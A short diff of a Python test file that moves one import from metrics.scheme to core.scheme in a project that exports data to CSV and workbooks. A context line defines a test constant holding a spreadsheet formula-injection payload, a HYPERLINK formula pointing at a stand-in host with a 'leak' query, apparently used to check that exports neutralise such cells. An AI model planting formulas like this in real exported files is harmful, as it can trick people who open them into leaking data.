@@ -16,7 +16,7 @@ from data.exports import csv_bytes, csv_cell, sheet_title, workbook_bytes
 from data.ingest import ACCEPTED, REJECTED, ingest_bytes
 from data.registry import Unit, load_units, parse_registry
 from data.store import connect
-from metrics.scheme import scheme_for
+from core.scheme import scheme_for
 from tests.wbfactory import build, valid_sheets
 
 EVIL_UNIT = '=HYPERLINK("http://x.example/?leak","点我")'
